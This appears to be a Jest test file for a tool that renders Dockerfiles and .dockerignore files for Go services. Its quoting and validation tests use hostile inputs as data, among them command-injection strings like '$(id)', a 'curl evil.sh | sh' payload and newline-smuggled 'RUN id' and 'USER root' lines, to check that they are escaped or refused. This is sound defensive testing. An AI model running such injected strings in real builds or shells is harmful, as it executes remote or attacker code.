import { spawnSync } from 'node:child_process';
import { UsageError } from '../../src/errors';
import { DockerfileOptions, Runtime } from '../../src/model';
import { ALPINE_IMAGE, DISTROLESS_IMAGE, goBuildCommand, renderDockerfile } from '../../src/render/dockerfile';
import { ignorePattern, inDoubleQuotes, shellWord } from '../../src/render/shell';

const base: DockerfileOptions = {
  builderImage: 'golang:1.22',
  runtime: 'distroless',
  mainPackage: './cmd/orders',
  binaryName: 'orders',
  port: 8080,
  uid: 65532,
  vendored: false,
  hasGoSum: true,
  chartDir: 'charts/orders',
};

const dockerfile = (o: Partial<DockerfileOptions> = {}): string => renderDockerfile({ ...base, ...o }).get('Dockerfile')!;

/** The instructions of a Dockerfile as "KEYWORD args", continuation lines joined, comments dropped. */
function instructions(text: string): string[] {
  return text
    .replace(/\\\n\s*/g, '')
    .split('\n')
    .filter((l) => l.trim() !== '' && !l.startsWith('#'))
    .map((l) => l.replace(/\s+/g, ' ').trim());
}

/** Instructions per stage; stage 0 holds what precedes the first FROM. */
function stages(text: string): string[][] {
  const out: string[][] = [[]];
  for (const i of instructions(text)) (i.startsWith('FROM ') ? out[out.push([]) - 1] : out[out.length - 1]).push(i);
  return out;
}

describe('renderDockerfile: build stage', () => {
  it('starts with the syntax line and a GO_VERSION argument from the module', () => {
    const text = dockerfile({ builderImage: 'golang:1.22.5' });
    expect(text.split('\n')[0]).toBe('# syntax=docker/dockerfile:1');
    const [pre, build] = stages(text);
    expect(pre).toEqual(['ARG GO_VERSION=1.22.5']);
    expect(build[0]).toBe('FROM --platform=$BUILDPLATFORM golang:${GO_VERSION} AS build');
    expect(build).toContain('ARG TARGETOS TARGETARCH');
    expect(build).toContain('ARG GOPROXY GOPRIVATE GONOSUMDB GOFLAGS');
  });

  it('downloads modules in their own layer before copying the source', () => {
    const build = stages(dockerfile())[1];
    const at = (i: string): number => build.indexOf(i);
    expect(at('COPY go.mod go.sum ./')).toBeGreaterThan(0);
    expect(at('RUN --mount=type=cache,target=/go/pkg/mod go mod download')).toBe(at('COPY go.mod go.sum ./') + 1);
    expect(at('COPY . .')).toBe(at('RUN --mount=type=cache,target=/go/pkg/mod go mod download') + 1);
    expect(dockerfile({ hasGoSum: false })).toContain('\nCOPY go.mod ./\n');
    // go mod download reads the go.mod of local replace targets: copied first, as JSON.
    expect(dockerfile({ localReplaceDirs: ['./lib', './x/y'] })).toContain('\nCOPY go.mod go.sum ./\nCOPY ["./lib/go.mod","./lib/"]\nCOPY ["./x/y/go.mod","./x/y/"]\nRUN --mount');
    expect(() => dockerfile({ localReplaceDirs: ['./lib"]\nRUN id'] })).toThrow(/replace directory/);
    // A go.work outside the build context is never used.
    expect(stages(dockerfile())[1]).toContain('ENV GOWORK=off');
  });

  it('builds a static, stripped, trimmed binary for the target platform', () => {
    const run = stages(dockerfile()).flat().filter((i) => i.includes('go build'));
    expect(run).toEqual([
      'RUN --mount=type=cache,target=/go/pkg/mod --mount=type=cache,target=/root/.cache/go-build ' +
        'CGO_ENABLED=0 GOOS=$TARGETOS GOARCH=$TARGETARCH go build -trimpath -ldflags "-s -w" -o /out/orders ./cmd/orders',
    ]);
  });

  it('stamps the version through -X only when a version variable is set', () => {
    const text = dockerfile({ versionVariable: 'main.version' });
    expect(instructions(text)).toContain('ARG VERSION=dev');
    expect(text).toContain('-ldflags "-s -w -X main.version=${VERSION}"');
    expect(dockerfile()).not.toMatch(/ARG VERSION|-X /);
  });

  it('vendored: no download layer, builds with -mod=vendor', () => {
    const text = dockerfile({ vendored: true });
    expect(text).not.toContain('go mod download');
    expect(text).not.toMatch(/COPY go\.mod/);
    expect(text).toContain('go build -mod=vendor -trimpath');
  });

  it('needs a tagged builder image', () => {
    expect(() => dockerfile({ builderImage: 'golang' })).toThrow(UsageError);
    expect(stages(dockerfile({ builderImage: 'registry.example.com:5000/golang:1.23' }))[1][0]).toBe(
      'FROM --platform=$BUILDPLATFORM registry.example.com:5000/golang:${GO_VERSION} AS build',
    );
  });
});

describe('renderDockerfile: runtime stage', () => {
  const tail = ['COPY --from=build /out/orders /orders', 'EXPOSE 8080', 'USER 65532:65532', 'ENTRYPOINT ["/orders"]'];
  const runtimeStage = (runtime: Runtime, o: Partial<DockerfileOptions> = {}): string[] => {
    const s = stages(dockerfile({ runtime, ...o }));
    expect(s).toHaveLength(3); // pre-FROM args, build, runtime
    return s[2];
  };

  it('distroless: the nonroot static image and the binary', () => {
    expect(runtimeStage('distroless')).toEqual([`FROM ${DISTROLESS_IMAGE}`, ...tail]);
  });

  it('scratch: CA certificates and a user database from the build stage', () => {
    expect(runtimeStage('scratch')).toEqual([
      'FROM scratch',
      'COPY --from=build /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/ca-certificates.crt',
      'COPY --from=build /out/etc/ /etc/',
      ...tail,
    ]);
    const build = stages(dockerfile({ runtime: 'scratch' }))[1];
    const users = build.find((i) => i.includes('/out/etc/passwd'));
    expect(users).toContain("'nonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin'");
    expect(users).toContain("'nonroot:x:65532:' > /out/etc/group");
    // before the source is copied, so code changes do not redo it
    expect(build.indexOf(users!)).toBeLessThan(build.indexOf('COPY . .'));
  });

  it('alpine: a pinned release, CA certificates and a non-root user', () => {
    expect(ALPINE_IMAGE).toMatch(/^alpine:\d+\.\d+/);
    expect(runtimeStage('alpine')).toEqual([
      `FROM ${ALPINE_IMAGE}`,
      'RUN apk add --no-cache ca-certificates && adduser -D -H -u 65532 nonroot',
      ...tail,
    ]);
  });

  it('uses the numeric uid and port of the options', () => {
    expect(runtimeStage('alpine', { uid: 10001, port: 9090 })).toEqual(expect.arrayContaining(['USER 10001:10001', 'EXPOSE 9090']));
    expect(runtimeStage('alpine', { uid: 10001 })).toContain('RUN apk add --no-cache ca-certificates && adduser -D -H -u 10001 nonroot');
    expect(dockerfile({ runtime: 'scratch', uid: 10001 })).toContain("'nonroot:x:10001:10001:");
  });
});

describe('renderDockerfile: .dockerignore and purity', () => {
  it('keeps git, the chart, build output and editor files out; never vendor/ or go.sum', () => {
    const ignore = renderDockerfile({ ...base, chartDir: './charts/orders/' }).get('.dockerignore')!;
    const lines = ignore.split('\n').filter((l) => l && !l.startsWith('#'));
    expect(lines).toEqual(expect.arrayContaining(['.git', 'charts/orders', '/bin', '/dist', '**/*.test', '**/*.out', 'Dockerfile', '.dockerignore']));
    expect(lines.filter((l) => /vendor|go\.(sum|mod)|\.go$/.test(l))).toEqual([]);
  });

  it('returns exactly the two files, the same for the same options', () => {
    const a = renderDockerfile(base);
    expect([...a.keys()]).toEqual(['Dockerfile', '.dockerignore']);
    expect(renderDockerfile({ ...base })).toEqual(a);
    for (const text of a.values()) expect(text).toMatch(/[^\n]\n$/);
  });
});

/** The words /bin/sh makes of `line`, with VERSION set as the build argument would be. */
function shellArgs(line: string, version = '1.4.0'): string[] {
  const r = spawnSync('/bin/sh', ['-c', `set -- ${line}; printf '%s\\0' "$@"`], { encoding: 'utf8', env: { PATH: process.env.PATH, VERSION: version } });
  expect(r.status).toBe(0);
  return r.stdout.split('\0').slice(0, -1);
}

describe('quoting for /bin/sh and .dockerignore', () => {
  const HOSTILE = ["it's", 'a b', 'x;touch /tmp/pwned', '$(id)', '`id`', '"q"', 'back\\slash', '~root', 'line\nbreak', '*', '', 'plain-./:=,@%+_'];

  it.each(HOSTILE)('shellWord(%j) is one word that /bin/sh reads back unchanged', (s) => {
    expect(shellArgs(shellWord(s))).toEqual([s]);
  });

  it.each(HOSTILE)('inDoubleQuotes(%j) inside "..." expands to itself', (s) => {
    expect(shellArgs(`"${inDoubleQuotes(s)}"`)).toEqual([s]);
  });

  it('leaves safe words bare (the golden Dockerfiles need no quotes)', () => {
    for (const s of ['go', '-trimpath', '/out/orders', './cmd/orders', '-mod=vendor']) expect(shellWord(s)).toBe(s);
  });

  it('escapes glob characters in an ignore pattern', () => {
    expect(ignorePattern('charts/a*b?[c]\\d')).toBe('charts/a\\*b\\?\\[c\\]\\\\d');
    expect(ignorePattern('charts/orders')).toBe('charts/orders');
  });

  it('the go build line is the argv we mean, with ${VERSION} one word even with spaces', () => {
    const line = goBuildCommand({ vendored: true, versionVariable: 'example.com/orders/internal/build.Version', binaryName: 'orders', mainPackage: './cmd/orders' });
    expect(shellArgs(line, '1.4.0 beta; id')).toEqual([
      'go', 'build', '-mod=vendor', '-trimpath', '-ldflags', '-s -w -X example.com/orders/internal/build.Version=1.4.0 beta; id', '-o', '/out/orders', './cmd/orders',
    ]);
  });

  it('even unchecked, hostile tokens stay single arguments of go build', () => {
    const line = goBuildCommand({ vendored: false, versionVariable: 'main.v" ; touch /tmp/x ; "', binaryName: 'a b', mainPackage: './cmd/$(id);x' });
    expect(shellArgs(line)).toEqual(['go', 'build', '-trimpath', '-ldflags', '-s -w -X main.v" ; touch /tmp/x ; "=1.4.0', '-o', '/out/a b', './cmd/$(id);x']);
  });
});

describe('renderDockerfile refuses what its grammar refuses', () => {
  it.each<[string, Partial<DockerfileOptions>, string[]]>([
    ['version variable with a quote and ;', { versionVariable: 'main.version"; curl evil.sh | sh; "' }, ['--version-var', '"main.version\\"; curl', 'main.version']],
    ['version variable with a newline', { versionVariable: 'main.version\nRUN id' }, ['--version-var', '\\nRUN id']],
    ['version variable without a package', { versionVariable: 'version' }, ['--version-var', '"version"']],
    ['main package with ;', { mainPackage: './cmd/a;id' }, ['main package (--main)', '"./cmd/a;id"', './cmd/orders']],
    ['main package with a space', { mainPackage: './cmd/my service' }, ['main package (--main)', '"./cmd/my service"']],
    ['main package with a newline', { mainPackage: './cmd/x\nRUN id' }, ['main package (--main)', '\\nRUN id']],
    ['main package outside the module', { mainPackage: '../other' }, ['main package (--main)', '"../other"']],
    ['binary name with a quote', { binaryName: 'orders"]\nUSER root' }, ['NAME', 'USER root']],
    ['chart dir with a newline', { chartDir: 'charts/x\n!.git' }, ['--chart-dir', '\\n!.git']],
    ['chart dir "."', { chartDir: '.' }, ['--chart-dir', '"."']],
    ['builder tag with a space', { builderImage: 'golang:1.22 AS x' }, ['--go-version', '"1.22 AS x"']],
    ['builder without a tag', { builderImage: 'registry.example.com:5000/golang' }, ['--go-version', 'needs a tag']],
    ['port out of range', { port: 70000 }, ['containerPort', '70000']],
    ['uid not an integer', { uid: 1.5 }, ['securityContext.runAsUser', '1.5']],
  ])('%s', (_, o, expected) => {
    let err: unknown;
    try {
      dockerfile(o);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(UsageError);
    for (const e of expected) expect(`${(err as UsageError).message}\n${(err as UsageError).suggestion}`).toContain(e);
  });

  it('.dockerignore keeps out go.work, go.work.sum and the writer\'s staging files', () => {
    const lines = renderDockerfile(base).get('.dockerignore')!.split('\n');
    expect(lines).toEqual(expect.arrayContaining(['go.work', 'go.work.sum', '**/.goservice*']));
  });
});
